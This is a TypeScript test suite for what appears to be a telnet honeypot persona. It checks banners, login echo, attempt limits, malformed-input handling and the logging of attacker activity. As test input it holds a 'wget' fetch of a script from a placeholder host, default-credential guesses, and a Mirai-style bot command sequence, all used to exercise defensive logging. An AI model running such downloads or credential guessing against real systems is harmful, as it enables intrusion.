import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import net from 'node:net';
import { after, before, describe, test } from 'node:test';
import { type RunningPersona, startPersona } from '../core/test-helpers.ts';
import { TELNET_MAX_ATTEMPTS, telnetPersona } from './telnet.ts';

const SEED_UBUNTU = 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaa14';
const SEED_CENTOS = 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaa11';

const IAC = 255;
const WILL = 251;
const DO = 253;

/**
 * A minimal Telnet client over a raw socket, like a bot's: answers the server's WILL with DO (so
 * the server echoes), strips every IAC sequence from what it shows, and waits for text.
 */
class TelnetClient {
  readonly socket: net.Socket;
  /** Text received (IAC sequences removed). */
  text = '';
  /** Negotiation bytes received, as [verb, option]. */
  readonly negotiations: [number, number][] = [];
  readonly closed: Promise<void>;
  #waiters = new Set<() => void>();
  #pending = Buffer.alloc(0);

  constructor(port: number, o: { agreeEcho?: boolean } = {}) {
    this.socket = net.connect(port, '127.0.0.1');
    this.socket.on('error', () => {});
    this.closed = new Promise((resolve) => this.socket.on('close', () => resolve()));
    this.socket.on('data', (chunk: Buffer) => {
      let b = Buffer.concat([this.#pending, chunk]);
      this.#pending = Buffer.alloc(0);
      let out = '';
      let i = 0;
      while (i < b.length) {
        if (b[i] !== IAC) {
          out += String.fromCharCode(b[i] as number);
          i++;
          continue;
        }
        if (i + 2 >= b.length) {
          this.#pending = b.subarray(i);
          break;
        }
        const verb = b[i + 1] as number;
        const opt = b[i + 2] as number;
        this.negotiations.push([verb, opt]);
        if (verb === WILL && o.agreeEcho !== false) this.socket.write(Buffer.from([IAC, DO, opt]));
        i += 3;
      }
      b = Buffer.alloc(0);
      this.text += Buffer.from(out, 'latin1').toString('utf8');
      for (const w of this.#waiters) w();
    });
  }

  /** Resolves when the text received since `from` matches. */
  waitFor(re: RegExp, from = 0, ms = 10_000): Promise<string> {
    return new Promise((resolve, reject) => {
      const check = () => {
        const seen = this.text.slice(from);
        if (!re.test(seen)) return false;
        this.#waiters.delete(check);
        clearTimeout(timer);
        resolve(seen);
        return true;
      };
      const timer = setTimeout(() => {
        this.#waiters.delete(check);
        reject(new Error(`no ${re} within ${ms} ms; got ${JSON.stringify(this.text.slice(from))}`));
      }, ms);
      if (!check()) this.#waiters.add(check);
    });
  }

  /** Types text (Enter is CR LF, as telnet clients send in line mode). */
  send(text: string): void {
    this.socket.write(text);
  }
}

describe('telnet persona', () => {
  let p: RunningPersona;
  before(async () => {
    p = await startPersona('telnet', telnetPersona, { seed: SEED_UBUNTU });
  });
  after(() => p.close());

  test('banner, login and a command line; login, command and download recorded; exit closes', async () => {
    const c = new TelnetClient(p.port);
    const greeting = await c.waitFor(/login: $/);
    assert.ok(greeting.includes(`${p.identity.linux.distro}\r\n`), greeting);
    assert.ok(greeting.endsWith(`\r\n${p.identity.hostname} login: `), greeting);
    assert.deepEqual(c.negotiations.slice(0, 2), [
      [WILL, 1],
      [WILL, 3],
    ]);
    c.send('admin\r\n');
    await c.waitFor(/Password: $/);
    let mark = c.text.length;
    c.send('admin\r\n');
    const prompt = `admin@${p.identity.hostname}:~$ `;
    const motd = await c.waitFor(new RegExp(`${prompt.replace(/[.$]/g, '\\$&')}$`), mark);
    assert.ok(!motd.includes('admin\r\n'), 'the password is not echoed');
    assert.ok(motd.includes(`Welcome to ${p.identity.linux.distro}`), motd);
    mark = c.text.length;
    c.send('uname -a; wget http://198.51.100.7/t.sh\r\n');
    const out = await c.waitFor(/\$ $/, mark);
    assert.ok(out.startsWith('uname -a; wget http://198.51.100.7/t.sh\r\n'), 'typed text is echoed');
    assert.ok(out.includes(`Linux ${p.identity.hostname} ${p.identity.linux.kernel} #`), out);
    assert.ok(out.includes('failed: Connection refused.\r\n'), out);
    c.send('exit\r\n');
    await c.closed;
    assert.ok(c.text.endsWith('logout\r\n'), JSON.stringify(c.text.slice(-40)));

    const login = await p.waitFor((i) => i.kind === 'login');
    assert.deepEqual(
      [login.username, login.password, login.success, login.summary],
      ['admin', 'admin', true, 'telnet login'],
    );
    const command = await p.waitFor((i) => i.kind === 'command');
    assert.equal(command.command, 'uname -a; wget http://198.51.100.7/t.sh');
    assert.equal(command.info?.via, 'telnet');
    assert.equal((await p.waitFor((i) => i.kind === 'download')).url, 'http://198.51.100.7/t.sh');
    await p.waitFor((i) => i.kind === 'disconnect' && i.sessionId === login.sessionId);
  });

  test(`each failed login is recorded; after ${TELNET_MAX_ATTEMPTS} the connection closes`, async () => {
    const before = p.interactions.filter((i) => i.kind === 'login').length;
    const c = new TelnetClient(p.port, { agreeEcho: false });
    for (let n = 1; n <= TELNET_MAX_ATTEMPTS; n++) {
      await c.waitFor(new RegExp(`(login: [^]*){${n}}$`));
      c.send(`root\r\n`);
      await c.waitFor(new RegExp(`(Password: [^]*){${n}}$`));
      c.send(`guess${n}\r\n`);
    }
    await c.closed;
    assert.equal(c.text.match(/Login incorrect\r\n/g)?.length, TELNET_MAX_ATTEMPTS);
    assert.ok(!c.text.includes('root\r\n'), 'no echo when the client did not ask for it');
    const tried = p.interactions.filter((i) => i.kind === 'login').slice(before);
    assert.deepEqual(
      tried.map((i) => [i.username, i.password, i.success]),
      [1, 2, 3].map((n) => ['root', `guess${n}`, false]),
    );
  });

  test('character-at-a-time input with CR NUL, backspace and a whole session in one packet', async () => {
    const c = new TelnetClient(p.port);
    await c.waitFor(/login: $/);
    for (const ch of ['a', 'd', 'x', '\x7f', 'm', 'i', 'n', '\r', '\0']) c.send(ch);
    await c.waitFor(/Password: $/);
    // What a Mirai-style bot sends once it has the password: everything at once.
    const mark = c.text.length;
    c.send('admin\r\nenable\r\nsystem\r\nshell\r\nsh\r\n/bin/busybox MIRAI\r\n');
    const out = await c.waitFor(/MIRAI: applet not found\r\n/, mark);
    assert.ok(out.includes('bash: system: command not found\r\n'), out);
    const commands = p.interactions.filter((i) => i.kind === 'command').map((i) => i.command);
    assert.deepEqual(commands.slice(-5), ['enable', 'system', 'shell', 'sh', '/bin/busybox MIRAI']);
    c.socket.destroy();
  });

  test('garbage, an HTTP request, an endless line and endless subnegotiation are malformed; the next client is served', async () => {
    const before = p.interactions.filter((i) => i.kind === 'malformed').length;
    const inputs = [
      Buffer.concat([Buffer.from([0, 1, 2, 3, 4, 5, 6, 7, 11, 12, 14]), randomBytes(4096)]),
      Buffer.from('GET / HTTP/1.1\r\nHost: x\r\n\r\n'),
      Buffer.from('a'.repeat(5000)),
      Buffer.concat([Buffer.from([IAC, 250, 24]), Buffer.alloc(2000, 0x41)]),
    ];
    for (const data of inputs) {
      const c = new TelnetClient(p.port);
      await c.waitFor(/login: $/);
      c.send(data as unknown as string);
      await c.closed;
    }
    const reasons = p.interactions
      .filter((i) => i.kind === 'malformed')
      .slice(before)
      .map((i) => i.summary);
    assert.equal(reasons.length, 4, JSON.stringify(reasons));
    assert.ok(
      ['binary data at the telnet login prompt', 'telnet subnegotiation too long'].includes(reasons[0] as string),
      reasons[0],
    );
    assert.deepEqual(reasons.slice(1), [
      'HTTP request on the telnet port',
      'oversized line at the telnet login prompt',
      'telnet subnegotiation too long',
    ]);
    const next = new TelnetClient(p.port);
    await next.waitFor(/login: $/);
    next.socket.destroy();
  });
});

describe('telnet banner', () => {
  test('follows the identity (Red Hat family prints its kernel line)', async () => {
    const p = await startPersona('telnet', telnetPersona, { seed: SEED_CENTOS });
    try {
      const c = new TelnetClient(p.port);
      const greeting = await c.waitFor(/login: $/);
      assert.ok(
        greeting.includes(`CentOS Linux 7 (Core)\r\nKernel ${p.identity.linux.kernel} on an x86_64\r\n`),
        greeting,
      );
      assert.ok(greeting.endsWith(`${p.identity.hostname} login: `));
      c.socket.destroy();
    } finally {
      await p.close();
    }
  });
});
